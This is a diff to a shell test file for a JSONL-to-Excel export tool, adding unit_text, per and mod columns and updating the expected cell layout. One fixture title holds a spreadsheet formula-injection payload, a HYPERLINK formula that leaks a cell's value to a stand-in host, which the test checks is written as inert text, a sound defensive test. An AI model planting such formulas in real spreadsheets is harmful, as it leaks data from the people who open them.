@@ -20,10 +20,10 @@ dump() {
 @test "nf-xlsx: typed cells: numbers, full-day dates, and text for everything else" {
 	need_openpyxl
 	cat >"$T/in.jsonl" <<'IN'
-{"doc":"a.txt","article":1,"title":"=HYPERLINK(\"http://x/?leak=\"&B2,\"click\")","published":"2025-05-10","para":2,"sent":1,"role":"body","lang":"zh","kind":"money","match":"10亿元","value":1000000000,"value_max":null,"unit":"CNY","qualifier":"gt","equiv_of":null,"match_start":5,"match_end":13,"note":null,"text":"=1+1 杭州投入10亿元"}
+{"doc":"a.txt","article":1,"title":"=HYPERLINK(\"http://x/?leak=\"&B2,\"click\")","published":"2025-05-10","para":2,"sent":1,"role":"body","lang":"zh","kind":"money","match":"10亿元","value":1000000000,"value_max":null,"unit":"CNY","unit_text":"元","per":"year","qualifier":"gt","equiv_of":null,"match_start":5,"match_end":13,"note":null,"text":"=1+1 杭州投入10亿元"}
 {"doc":"a.txt","article":1,"title":"T","published":"2025-02-30","para":3,"sent":2,"kind":"percent","match":"30%","value":-3.5,"value_max":0.1,"unit":"percent","qualifier":"range","match_start":1,"match_end":4,"text":"-3.5 to 0.1"}
 {"doc":"b.txt","article":1,"published":"1899-12-31","kind":"date","match":"January 20","value":"2025-01-20","from":"2025-01-20","to":"2025-01-20","anchor":"2025-05-10","text":"On January 20"}
-{"doc":"b.txt","article":1,"kind":"date","match":"2025年5月","value":"2025-05","from":"2025-05-01","to":"2025-05-31","anchor":null,"note":"no anchor","text":"2025年5月"}
+{"doc":"b.txt","article":1,"kind":"date","match":"2025年5月","value":"2025-05","mod":"START","from":"2025-05-01","to":"2025-05-31","anchor":null,"note":"no anchor","text":"2025年5月"}
 {"doc":"b.txt","article":1,"kind":"duration","match":"two years","value":"P2Y","from":null,"to":null,"anchor":"2025-05-10","text":"x"}
 {"doc":"b.txt","article":1,"kind":"date","match":"Q1","value":"2025-Q1","from":"2025-01-01","to":"2025-03-31","anchor":"2025-05-10T08:00:00Z","text":"y"}
 IN
@@ -31,7 +31,7 @@ IN
 	assert_output ''
 	run -0 dump "$T/out.xlsx"
 	assert_output "$(cat <<'OUT'
-# figures freeze=A2 filter=A1:S3
+# figures freeze=A2 filter=A1:U3
 A1	s	doc
 B1	s	article
 C1	s	title
@@ -45,12 +45,14 @@ J1	s	match
 K1	s	value
 L1	s	value_max
 M1	s	unit
-N1	s	qualifier
-O1	s	equiv_of
-P1	s	match_start
-Q1	s	match_end
-R1	s	note
-S1	s	text
+N1	s	unit_text
+O1	s	per
+P1	s	qualifier
+Q1	s	equiv_of
+R1	s	match_start
+S1	s	match_end
+T1	s	note
+U1	s	text
 A2	s	a.txt
 B2	n	1
 C2	s	=HYPERLINK("http://x/?leak="&B2,"click")
@@ -63,10 +65,12 @@ I2	s	money
 J2	s	10亿元
 K2	n	1000000000
 M2	s	CNY
-N2	s	gt
-P2	n	5
-Q2	n	13
-S2	s	=1+1 杭州投入10亿元
+N2	s	元
+O2	s	year
+P2	s	gt
+R2	n	5
+S2	n	13
+U2	s	=1+1 杭州投入10亿元
 A3	s	a.txt
 B3	n	1
 C3	s	T
@@ -78,11 +82,11 @@ J3	s	30%
 K3	n	-3.5
 L3	n	0.1
 M3	s	percent
-N3	s	range
-P3	n	1
-Q3	n	4
-S3	s	-3.5 to 0.1
-# dates freeze=A2 filter=A1:R5
+P3	s	range
+R3	n	1
+S3	n	4
+U3	s	-3.5 to 0.1
+# dates freeze=A2 filter=A1:S5
 A1	s	doc
 B1	s	article
 C1	s	title
@@ -94,48 +98,50 @@ H1	s	lang
 I1	s	kind
 J1	s	match
 K1	s	value
-L1	s	from
-M1	s	to
-N1	s	anchor
-O1	s	match_start
-P1	s	match_end
-Q1	s	note
-R1	s	text
+L1	s	mod
+M1	s	from
+N1	s	to
+O1	s	anchor
+P1	s	match_start
+Q1	s	match_end
+R1	s	note
+S1	s	text
 A2	s	b.txt
 B2	n	1
 D2	s	1899-12-31
 I2	s	date
 J2	s	January 20
 K2	s	2025-01-20
-L2	d	2025-01-20
 M2	d	2025-01-20
-N2	d	2025-05-10
-R2	s	On January 20
+N2	d	2025-01-20
+O2	d	2025-05-10
+S2	s	On January 20
 A3	s	b.txt
 B3	n	1
 I3	s	date
 J3	s	2025年5月
 K3	s	2025-05
-L3	d	2025-05-01
-M3	d	2025-05-31
-Q3	s	no anchor
-R3	s	2025年5月
+L3	s	START
+M3	d	2025-05-01
+N3	d	2025-05-31
+R3	s	no anchor
+S3	s	2025年5月
 A4	s	b.txt
 B4	n	1
 I4	s	duration
 J4	s	two years
 K4	s	P2Y
-N4	d	2025-05-10
-R4	s	x
+O4	d	2025-05-10
+S4	s	x
 A5	s	b.txt
 B5	n	1
 I5	s	date
 J5	s	Q1
 K5	s	2025-Q1
-L5	d	2025-01-01
-M5	d	2025-03-31
-N5	s	2025-05-10T08:00:00Z
-R5	s	y
+M5	d	2025-01-01
+N5	d	2025-03-31
+O5	s	2025-05-10T08:00:00Z
+S5	s	y
 OUT
 )"
 }
@@ -195,10 +201,10 @@ OUT
 	need_openpyxl
 	run -0 nf-xlsx --sheets date,figure -o "$T/out.xlsx" <<<'{"doc":"a","unit":"CNY","kind":"money","value":5}'
 	run -0 sh -c '"$1" "$2" | grep "^#"' _ "$ROOT/tests/sheet-dump" "$T/out.xlsx"
-	assert_output "$(printf '%s\n' '# dates freeze=A2 filter=A1:R1' '# figures freeze=A2 filter=A1:S2')"
+	assert_output "$(printf '%s\n' '# dates freeze=A2 filter=A1:S1' '# figures freeze=A2 filter=A1:U2')"
 	run -0 nf-xlsx -o "$T/empty.xlsx" </dev/null
 	run -0 sh -c '"$1" "$2" | sed -n 1,3p' _ "$ROOT/tests/sheet-dump" "$T/empty.xlsx"
-	assert_output "$(printf '%s\n' '# figures freeze=A2 filter=A1:S1' 'A1	s	doc' 'B1	s	article')"
+	assert_output "$(printf '%s\n' '# figures freeze=A2 filter=A1:U1' 'A1	s	doc' 'B1	s	article')"
 }
 
 @test "nf-xlsx: columns are as wide as their contents, within limits, Chinese counting double" {
@@ -209,9 +215,9 @@ IN
 	run -0 /usr/bin/python3 -c '
 import openpyxl, sys
 ws = openpyxl.load_workbook(sys.argv[1])["figures"]
-for col in ("A", "B", "J", "K", "S"):
+for col in ("A", "B", "J", "K", "U"):
     print(col, round(ws.column_dimensions[col].width))' "$T/out.xlsx"
-	assert_output "$(printf '%s\n' 'A 8' 'B 12' 'J 22' 'K 15' 'S 61')"
+	assert_output "$(printf '%s\n' 'A 8' 'B 12' 'J 22' 'K 15' 'U 61')"
 }
 
 @test "nf-xlsx: a text longer than a cell holds is cut at a character and reported" {
